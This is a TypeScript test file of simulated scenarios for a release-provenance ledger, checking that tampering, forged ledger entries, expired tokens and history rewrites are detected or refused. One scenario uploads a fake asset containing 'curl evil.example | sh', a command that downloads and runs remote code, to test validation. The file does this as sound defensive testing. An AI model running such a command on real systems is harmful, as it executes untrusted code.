// The rehearsal's scenarios (issue 15 item 5): each builds a fresh world, acts as people and
// GitHub would, lets every triggered run finish, and reads the outcome from the remote ledger
// branch, the GitHub stand-in (releases, issues) and the Slack receiver.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Json } from './expr.js';
import type { RunRecord } from './runner.js';
import type { World, WorldOptions } from './world.js';

export interface ScenarioOutcome {
  readonly scenario: string;
  readonly entry: string;
  readonly release: string;
  readonly slack: number;
  readonly issues: number;
  readonly ingested: string;
  readonly passed: boolean;
  /** what was expected and not seen */
  readonly problems: readonly string[];
  /** notable refusals GitHub (the stand-in) answered */
  readonly refusals: readonly string[];
  readonly runs: readonly string[];
}

export interface Scenario {
  readonly name: string;
  readonly summary: string;
  readonly world: (ctx: { databaseUrl?: string }) => WorldOptions;
  readonly act: (world: World) => Promise<void>;
  readonly expect: (r: Observed) => string[];
  /** the scenario edits the ledger by hand: the drift guard's issue is expected, not a problem */
  readonly expectsDrift?: boolean;
}

export interface Observed {
  readonly world: World;
  readonly entries: Record<string, Json>[];
  entry(tag: string): Record<string, Json> | undefined;
  releaseState(tag: string): string;
  readonly slack: number;
  readonly issues: string[];
  readonly ingested: number | undefined;
  readonly ledgerBranch: string;
}

const ledgerBranch = 'slsa-ledger';

function describeEntry(e: Record<string, Json> | undefined): string {
  if (e === undefined) return 'no entry';
  const v = e.validation as { status?: string } | null | undefined;
  const n = (e.metrics as { notify?: { delivered?: number } } | undefined)?.notify;
  return `${typeof e.status === 'string' ? e.status : '?'}/${typeof e.governance_flag === 'string' ? e.governance_flag : '?'}${v?.status ? ` validation ${v.status}` : ''}${n ? ` notify ${n.delivered ?? 0}` : ''}`;
}

const expectValidated =
  (tag: string) =>
  (r: Observed): string[] => {
    const e = r.entry(tag);
    const out: string[] = [];
    if (e?.status !== 'success') out.push(`${tag}: expected status success, got ${describeEntry(e)}`);
    const v = e?.validation as { status?: string } | undefined;
    if (v?.status !== 'passed')
      out.push(`${tag}: expected a passed validation verdict, got ${describeEntry(e)}`);
    if (r.releaseState(tag) !== 'published')
      out.push(`${tag}: expected the release published, got ${r.releaseState(tag)}`);
    return out;
  };

/**
 * The daily ledger-check, run last: it audits the ledger branch under the trust: policy `init` wrote
 * (every change signed by the writer workflow the policy allows for its kind, chains unbroken).
 */
async function auditLedger(w: World): Promise<void> {
  await w.schedule('ledger-check.yml');
  await w.settle();
}

function expectAudited(r: Observed): string[] {
  const check = r.world.runs.filter((x) => x.name === 'ledger-check').at(-1);
  const out: string[] = [];
  if (check?.conclusion !== 'success')
    out.push(`expected ledger-check to succeed, got ${check?.conclusion ?? 'no run'}`);
  const drift = r.issues.filter((i) => i.includes('ledger-drift'));
  if (drift.length > 0) {
    // the findings, as check printed them in the job's log
    const findings = [...(check?.jobs.values() ?? [])]
      .flatMap((j) => j.log.join('\n').split('\n'))
      .filter((l) => /CHECK_[A-Z_]+/.test(l))
      .slice(0, 10);
    out.push(
      `expected no ledger-drift finding under the trust policy, got ${drift.join('; ')}: ${findings.join(' | ')}`,
    );
  }
  return out;
}

/** the refusals of the rewrite attempts of `ledger-history-ruleset` */
const rewrites = new WeakMap<World, Record<'force' | 'merge' | 'delete', string | null>>();

/** what a scenario saw along the way, for its expectations */
const seen = new WeakMap<World, { driftBeforeEdit: string[]; issuesAfterWriters: string[] }>();

export const scenarios: readonly Scenario[] = [
  {
    name: 'clean-release',
    summary:
      'a tag push → draft → build → generator provenance → upload → record → publish → validate → ingest',
    world: ({ databaseUrl }) => ({
      ...(databaseUrl === undefined ? {} : { databaseUrl }),
      rotatedAt: '2026-10-01T00:00:00Z',
    }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      await w.schedule('manifest-ingest.yml');
      await w.settle();
      await auditLedger(w);
    },
    expect: (r) => {
      const out = [...expectValidated('v1.0.0')(r), ...expectAudited(r)];
      if (r.issues.length > 0) out.push(`expected no issue, got ${r.issues.join('; ')}`);
      if (r.slack < 1) out.push('expected the provenance-ready Slack message');
      const m = r.entry('v1.0.0')?.metrics as Record<string, Json> | undefined;
      if (m?.dispatch_token_rotated_at !== '2026-10-01T00:00:00Z')
        out.push('expected metrics.dispatch_token_rotated_at from the variable');
      if ((m?.notify as { delivered?: number } | undefined)?.delivered !== 1)
        out.push('expected metrics.notify.delivered 1');
      if (r.ingested !== undefined && r.ingested < 1) out.push('expected the entry ingested into Postgres');
      return out;
    },
  },
  {
    name: 'missing-artifact',
    summary: 'the build leaves no artifacts: a failure entry, an alert, the release stays a draft',
    world: () => ({ makefile: 'dist:\n\tmkdir -p dist\n\t@echo "build produced nothing"\n.PHONY: dist\n' }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
    },
    expect: (r) => {
      const out: string[] = [];
      const e = r.entry('v1.0.0');
      if (e?.status !== 'failure' || e.governance_flag !== 'artifact-missing')
        out.push(`expected failure/artifact-missing, got ${describeEntry(e)}`);
      if (r.releaseState('v1.0.0') !== 'draft')
        out.push(`expected the release to stay a draft, got ${r.releaseState('v1.0.0')}`);
      if (!r.issues.some((i) => i.includes('provenance-failure for v1.0.0')))
        out.push('expected a provenance-failure issue for v1.0.0');
      return out;
    },
  },
  {
    name: 'refused-push-then-flush',
    summary:
      'a ruleset refuses GITHUB_TOKEN on the ledger branch: the entry queues and alerts; the README’s App token (a bypass actor) then lets the hourly flush land it, the ruleset staying',
    world: () => ({
      extraRulesets: [{ branches: [ledgerBranch], bypassApps: ['slsa-ledger-writer'], bypassAdmins: false }],
    }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      // the documented fix: the ruleset stays (GITHUB_TOKEN cannot be a bypass actor), the writers
      // push with the App's installation token
      await w.useLedgerApp('slsa-ledger-writer');
      await w.schedule('manifest-ingest.yml');
      await w.settle();
      // the runbook (docs/ops/failure-recovery.md): once the entry has landed, validate again
      const res = await fetch(
        `${w.api.url}/repos/${w.api.fullName}/actions/workflows/provenance-validate.yml/dispatches`,
        {
          method: 'POST',
          headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/json' },
          body: JSON.stringify({ ref: w.defaultBranch, inputs: { tag: 'v1.0.0' } }),
        },
      );
      if (res.status !== 204) throw new Error(`the re-validation dispatch was refused: ${res.status}`);
      await w.settle();
      await auditLedger(w);
    },
    expect: (r) => {
      // the entry was queued signed by slsa-provenance.yml and landed by manifest-ingest.yml's flush
      const out: string[] = expectAudited(r);
      const e = r.entry('v1.0.0');
      if (e?.status !== 'success')
        out.push(`expected the queued entry landed by flush, got ${describeEntry(e)}`);
      if ((e?.validation as { status?: string } | undefined)?.status !== 'passed')
        out.push(`expected the re-validation to pass, got ${describeEntry(e)}`);
      if (!r.issues.some((i) => i.includes('manifest-queued for v1.0.0')))
        out.push('expected a manifest-queued issue');
      if (!r.world.pushRefusals.some((x) => x.includes('GH013')))
        out.push('expected the ruleset to refuse a GITHUB_TOKEN push');
      if (!r.world.api.repo.rulesets.some((x) => x.branches.includes(ledgerBranch)))
        out.push('expected the ruleset on the ledger branch to stay');
      return out;
    },
  },
  {
    name: 'expired-dispatch-token',
    summary: 'the dispatch PAT (an environment secret) has expired: a dispatch-token-expired entry and issue',
    world: () => ({ rotatedAt: '2026-01-02T00:00:00Z' }),
    act: async (w) => {
      w.secrets.PROVENANCE_DISPATCH_TOKEN = w.api.issueToken({
        kind: 'pat',
        login: 'release-manager',
        permissions: { actions: 'write', contents: 'read' },
        expiresAt: new Date(Date.now() - 86_400_000),
      });
      await w.pushTag('v1.0.0');
      await w.settle();
    },
    expect: (r) => {
      const out: string[] = [];
      const e = r.entry('v1.0.0');
      if (e?.status !== 'failure' || e.governance_flag !== 'dispatch-token-expired')
        out.push(`expected failure/dispatch-token-expired, got ${describeEntry(e)}`);
      if (!r.issues.some((i) => i.includes('dispatch-token-expired for v1.0.0')))
        out.push('expected a dispatch-token-expired issue');
      if (
        (e?.metrics as Record<string, Json> | undefined)?.dispatch_token_rotated_at !== '2026-01-02T00:00:00Z'
      )
        out.push('expected the rotation date in metrics');
      return out;
    },
  },
  {
    name: 'failed-validation',
    summary:
      'someone adds an asset to the draft after the upload: validation fails, the verdict is recorded, an issue opens',
    world: () => ({}),
    act: async (w) => {
      w.hooks.beforeJob = async (run, jobId) => {
        if (run.name !== 'slsa-provenance' || jobId !== 'publish') return;
        const release = w.api.releases.find((x) => x.tag_name === 'v1.0.0');
        if (release === undefined) return;
        const res = await fetch(
          `${w.api.url}/repos/${w.api.fullName}/releases/${release.id}/assets?name=evil.sh`,
          {
            method: 'POST',
            headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/octet-stream' },
            body: 'curl evil.example | sh\n',
          },
        );
        if (res.status !== 201) throw new Error(`the outsider's upload was refused: ${res.status}`);
      };
      await w.pushTag('v1.0.0');
      await w.settle();
    },
    expect: (r) => {
      const out: string[] = [];
      const e = r.entry('v1.0.0');
      const v = e?.validation as { status?: string } | undefined;
      if (v?.status !== 'failed')
        out.push(`expected a failed validation verdict in the entry, got ${describeEntry(e)}`);
      if (!r.issues.some((i) => i.includes('validation-failed for v1.0.0')))
        out.push('expected a validation-failed issue');
      return out;
    },
  },
  {
    name: 'second-release-during-first',
    summary: 'two tags pushed at once: both runs record under the concurrency group, nothing is cancelled',
    world: () => ({}),
    act: async (w) => {
      await Promise.all([w.pushTag('v1.0.0'), w.pushTag('v1.1.0')]);
      await w.settle();
    },
    expect: (r) => {
      const out = [...expectValidated('v1.0.0')(r), ...expectValidated('v1.1.0')(r)];
      if (r.world.concurrency.cancelled.length > 0)
        out.push(`a pending ledger writer was cancelled: ${r.world.concurrency.cancelled.join('; ')}`);
      return out;
    },
  },
  {
    name: 'rerun-failed-job',
    summary:
      'a flaky build fails once; `gh run rerun --failed` re-runs it (artifacts overwritten) and the entry turns success',
    // the build runs a script in the runner's home: it fails the first time only
    world: () => ({ makefile: 'dist:\n\tsh "$$HOME/flaky.sh"\n.PHONY: dist\n' }),
    act: async (w) => {
      const marker = join(w.home, 'flaky-once');
      writeFileSync(
        join(w.home, 'flaky.sh'),
        `if [ ! -e '${marker}' ]; then touch '${marker}'; echo 'flaky: network hiccup' >&2; exit 1; fi\nmkdir -p dist && echo app > dist/app.txt\n`,
      );
      await w.pushTag('v1.0.0');
      await w.settle();
      const failed = w.runs.find(
        (x: RunRecord) => x.name === 'slsa-provenance' && x.conclusion === 'failure',
      );
      if (failed === undefined) throw new Error('the first attempt did not fail');
      await w.rerunFailed(failed);
      await w.settle();
    },
    expect: (r) => {
      const out = expectValidated('v1.0.0')(r);
      return out;
    },
  },
  {
    name: 'redispatch-after-build-change',
    summary:
      'the sign-off is withheld, the build changes (one artifact fewer) and slsa-provenance is dispatched again on the tag: the draft loses the earlier asset, the release validates',
    world: () => ({ approveRelease: false }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      const draft = w.api.releases.find((x) => x.tag_name === 'v1.0.0');
      if (draft?.draft !== true || !draft.assets.some((a) => a.name === 'app.txt'))
        throw new Error('expected a draft holding app.txt while the sign-off waits');
      w.environments.release!.approve = true;
      // the runbook's command: `gh workflow run slsa-provenance.yml --ref TAG -f tag=TAG -f build-command=…`
      // (on the tag, as release.yml dispatches it: the trust policy trusts it there only)
      const res = await fetch(
        `${w.api.url}/repos/${w.api.fullName}/actions/workflows/slsa-provenance.yml/dispatches`,
        {
          method: 'POST',
          headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/json' },
          body: JSON.stringify({
            ref: 'v1.0.0',
            inputs: {
              tag: 'v1.0.0',
              'build-command': 'mkdir -p dist && tar -czf dist/app.tar.gz --mtime=@0 Makefile',
            },
          }),
        },
      );
      if (res.status !== 204) throw new Error(`the re-dispatch was refused: ${res.status}`);
      await w.settle();
      await auditLedger(w);
    },
    expect: (r) => {
      const out = [...expectValidated('v1.0.0')(r), ...expectAudited(r)];
      const assets =
        r.world.api.releases.find((x) => x.tag_name === 'v1.0.0')?.assets.map((a) => a.name) ?? [];
      if (assets.includes('app.txt'))
        out.push(`expected the earlier app.txt gone from the release, got ${assets.join(', ')}`);
      return out;
    },
  },
  {
    name: 'validate-own-run',
    expectsDrift: true,
    summary:
      'a pusher plants a later run of the tag in the ledger, then slsa-provenance runs again on the tag: provenance-validate judges the run that triggered it (--run-id), never the newest run of the tag',
    world: () => ({ approveRelease: false }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      // a copy of the tag's entry as another run, stamped a little later than anything to come
      // (within the writers' clock-skew allowance), pushed by hand
      await w.pushLedgerEdit((text) => {
        const entries = JSON.parse(text) as Record<string, Json>[];
        const genuine = entries.find((e) => e.tag === 'v1.0.0');
        if (genuine === undefined) throw new Error('no v1.0.0 entry to copy');
        const planted = {
          ...genuine,
          run_id: 999_999,
          timestamp: new Date(Date.now() + 240_000).toISOString().replace(/\.\d{3}Z$/, 'Z'),
        };
        delete (planted as Record<string, Json>).validation;
        return `${JSON.stringify([...entries, planted], null, 2)}\n`;
      });
      await w.settle();
      w.environments.release!.approve = true;
      const res = await fetch(
        `${w.api.url}/repos/${w.api.fullName}/actions/workflows/slsa-provenance.yml/dispatches`,
        {
          method: 'POST',
          headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/json' },
          body: JSON.stringify({ ref: 'v1.0.0', inputs: { tag: 'v1.0.0' } }),
        },
      );
      if (res.status !== 204) throw new Error(`the re-dispatch was refused: ${res.status}`);
      await w.settle();
    },
    expect: (r) => {
      const out: string[] = [];
      const provenanceRuns = r.world.runs.filter((x) => x.name === 'slsa-provenance');
      const own = provenanceRuns.at(-1);
      if (provenanceRuns.length < 2 || own === undefined)
        return [`expected two slsa-provenance runs, got ${provenanceRuns.length}`];
      const byRun = (id: number): Record<string, Json> | undefined =>
        r.entries.find((e) => e.tag === 'v1.0.0' && Number(e.run_id) === id);
      const validation = (e: Record<string, Json> | undefined): string | undefined =>
        (e?.validation as { status?: string } | null | undefined)?.status;
      if (validation(byRun(own.id)) !== 'passed')
        out.push(
          `expected run ${own.id} (the one that triggered validate) validated, got ${describeEntry(byRun(own.id))}`,
        );
      if (!r.issues.some((i) => i.includes('ledger-drift')))
        out.push('expected the drift guard to report the planted run');
      if (validation(byRun(999_999)) !== undefined)
        out.push(`expected the planted run 999999 never judged, got ${describeEntry(byRun(999_999))}`);
      return out;
    },
  },
  {
    name: 'validate-planted-run',
    expectsDrift: true,
    summary:
      "a pusher plants a copy of the tag's entry as run 999999 (the same artifact_url and provenance digest), then someone dispatches provenance-validate by hand, which judges the newest run: the provenance names the run that built it, so the planted run fails (VALIDATE_RUN_MISMATCH) and is never validated",
    world: () => ({}),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      await w.pushLedgerEdit((text) => {
        const entries = JSON.parse(text) as Record<string, Json>[];
        const genuine = entries.find((e) => e.tag === 'v1.0.0');
        if (genuine === undefined) throw new Error('no v1.0.0 entry to copy');
        const planted = {
          ...genuine,
          run_id: 999_999,
          governance_flag: 'provenance-ready',
          timestamp: new Date(Date.now() + 240_000).toISOString().replace(/\.\d{3}Z$/, 'Z'),
        };
        delete (planted as Record<string, Json>).validation;
        delete (planted as Record<string, Json>).governance_history;
        return `${JSON.stringify([...entries, planted], null, 2)}\n`;
      });
      await w.settle();
      const res = await fetch(
        `${w.api.url}/repos/${w.api.fullName}/actions/workflows/provenance-validate.yml/dispatches`,
        {
          method: 'POST',
          headers: { authorization: `token ${w.userToken}`, 'content-type': 'application/json' },
          body: JSON.stringify({ ref: w.defaultBranch, inputs: { tag: 'v1.0.0' } }),
        },
      );
      if (res.status !== 204) throw new Error(`the validation dispatch was refused: ${res.status}`);
      await w.settle();
    },
    expect: (r) => {
      const out: string[] = [];
      const own = r.world.runs.filter((x) => x.name === 'slsa-provenance').at(-1);
      if (own === undefined) return ['expected a slsa-provenance run'];
      const byRun = (id: number): Record<string, Json> | undefined =>
        r.entries.find((e) => e.tag === 'v1.0.0' && Number(e.run_id) === id);
      const validation = (e: Record<string, Json> | undefined) =>
        e?.validation as { status?: string; reason?: string } | null | undefined;
      if (validation(byRun(own.id))?.status !== 'passed')
        out.push(
          `expected run ${own.id} (the one that built) validated, got ${describeEntry(byRun(own.id))}`,
        );
      const planted = validation(byRun(999_999));
      if (planted?.status !== 'failed' || !(planted.reason ?? '').startsWith('VALIDATE_RUN_MISMATCH'))
        out.push(
          `expected the planted run 999999 to fail with VALIDATE_RUN_MISMATCH, got ${describeEntry(byRun(999_999))} ${planted?.reason ?? ''}`,
        );
      if (!r.issues.some((i) => i.includes('validation-failed for v1.0.0')))
        out.push('expected a validation-failed issue');
      return out;
    },
  },
  {
    name: 'default-branch-master',
    summary: 'a fresh repository whose default branch is master (protected), immutable releases',
    world: () => ({ defaultBranch: 'master' }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
    },
    expect: (r) => {
      const out = expectValidated('v1.0.0')(r);
      if (r.world.git(['rev-parse', '--verify', '--quiet', 'refs/heads/main'], r.world.bare, true).code === 0)
        out.push('a main branch appeared');
      return out;
    },
  },
  {
    name: 'private-repository',
    summary:
      'init --private: attest-build-provenance on GitHub’s own Sigstore; nothing reaches the public log',
    world: () => ({ private: true, initArgs: ['--private'] }),
    act: async (w) => {
      // the ledger's own signatures go to a Sigstore of the organisation's (here GitHub's local
      // instance), named in repository variables; without them the writers refuse the public log
      w.vars.SLSA_LEDGER_FULCIO_URL = w.githubSigstore.fulcioUrl;
      w.vars.SLSA_LEDGER_REKOR_URL = w.githubSigstore.rekorUrl;
      await w.pushTag('v1.0.0');
      await w.settle();
      await auditLedger(w);
    },
    expect: (r) => {
      const out = [...expectValidated('v1.0.0')(r), ...expectAudited(r)];
      const publicLog = r.world.publicSigstore.requests.filter(
        (p) => p.includes('/api/v1/log/entries') || p.includes('/api/v2/log/entries'),
      );
      if (publicLog.length > 0) out.push(`the public log received ${publicLog.length} entr(ies)`);
      if (r.world.attestations.length === 0) out.push('expected an attestation in GitHub’s store');
      return out;
    },
  },
  {
    name: 'no-slack-no-database',
    summary:
      'neither SLACK_WEBHOOK_URL nor a database: their steps are skipped with a notice, everything else works',
    world: () => ({ slack: false }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      await w.schedule('manifest-ingest.yml');
      await w.settle();
    },
    expect: (r) => {
      const out = expectValidated('v1.0.0')(r);
      const ingest = r.world.runs.find((x) => x.name === 'manifest-ingest');
      if (ingest?.conclusion !== 'success')
        out.push(`expected manifest-ingest to succeed with a notice, got ${ingest?.conclusion ?? 'no run'}`);
      return out;
    },
  },
  {
    name: 'ledger-hand-edit',
    expectsDrift: true,
    summary:
      'a person edits the ledger branch by hand: the push starts nothing (the branch holds no workflows); the ledger-check after the next writer run opens one drift issue, the daily one comments on it',
    world: () => ({}),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      const driftBeforeEdit = w.api.issues
        .filter((i) => i.title.includes('ledger-drift'))
        .map((i) => i.title);
      await w.pushLedgerEdit((text) => text.replace(/"actor": "[^"]*"/, '"actor": "someone-else"'));
      await w.settle();
      await w.pushTag('v1.1.0');
      await w.settle();
      const issuesAfterWriters = w.api.issues.map((i) => i.title);
      seen.set(w, { driftBeforeEdit, issuesAfterWriters });
      await auditLedger(w);
    },
    expect: (r) => {
      const out = expectValidated('v1.1.0')(r);
      const s = seen.get(r.world);
      if (s === undefined) return [...out, 'the scenario did not get to the edit'];
      if (s.driftBeforeEdit.length > 0)
        out.push(`expected no drift before the edit, got ${s.driftBeforeEdit.join('; ')}`);
      if (r.world.pushRuns.some((x) => x.includes('refs/heads/slsa-ledger')))
        out.push(`a push to the ledger branch started a run: ${r.world.pushRuns.join('; ')}`);
      if (!s.issuesAfterWriters.some((t) => t.includes('ledger-drift')))
        out.push('expected the ledger-check after the v1.1.0 writers to open the drift issue');
      const drift = r.issues.filter((i) => i.includes('ledger-drift'));
      if (drift.length !== 1)
        out.push(`expected exactly one ledger-drift issue, got ${drift.join('; ') || 'none'}`);
      else if (!/\(\+\d+\)$/.test(drift[0]!)) out.push(`expected the daily check to comment on ${drift[0]!}`);
      const check = r.world.runs.filter((x) => x.name === 'ledger-check').at(-1);
      if (check?.conclusion !== 'success')
        out.push(
          `expected ledger-check to succeed (findings are an issue, not a red run), got ${check?.conclusion ?? 'no run'}`,
        );
      return out;
    },
  },
  {
    name: 'ledger-history-ruleset',
    summary:
      'the ledger history ruleset init prints (block force pushes, require linear history, restrict deletions, no bypass actor) blocks none of the writers of two releases, and refuses a force-push, a merge commit over a rewritten line and a deletion of the ledger branch',
    world: () => ({
      extraRulesets: [
        {
          branches: [ledgerBranch],
          bypassApps: [],
          bypassAdmins: false,
          rules: ['non_fast_forward', 'required_linear_history', 'deletion'],
        },
      ],
    }),
    act: async (w) => {
      await w.pushTag('v1.0.0');
      await w.settle();
      await w.pushTag('v1.1.0');
      await w.settle();
      rewrites.set(w, {
        force: await w.tryLedgerRewrite('force'),
        merge: await w.tryLedgerRewrite('merge'),
        delete: await w.tryLedgerRewrite('delete'),
      });
      await auditLedger(w);
    },
    expect: (r) => {
      const out = [...expectValidated('v1.0.0')(r), ...expectValidated('v1.1.0')(r), ...expectAudited(r)];
      const tried = rewrites.get(r.world);
      if (tried === undefined) return [...out, 'the scenario did not get to the rewrites'];
      const expected = {
        force: 'Cannot force-push to this branch',
        merge: 'This branch must not contain merge commits.',
        delete: 'Cannot delete this branch',
      } as const;
      for (const kind of ['force', 'merge', 'delete'] as const) {
        const refusal = tried[kind];
        if (refusal === null || !refusal.includes(expected[kind]))
          out.push(
            `expected the ${kind} rewrite refused with "${expected[kind]}", got ${refusal ?? 'accepted'}`,
          );
      }
      // no writer met a rule: the only GH013 refusals are the three rewrites (the validate job's
      // read-only token is refused by design, as in every scenario: its verdict is queued and
      // land-verdict flushes it)
      const ruleRefusals = r.world.api.pushRefusals.filter((x) => x.includes('GH013'));
      if (ruleRefusals.length !== 3)
        out.push(
          `expected exactly the three rewrites refused by the ruleset, got ${ruleRefusals.join(' | ')}`,
        );
      return out;
    },
  },
];
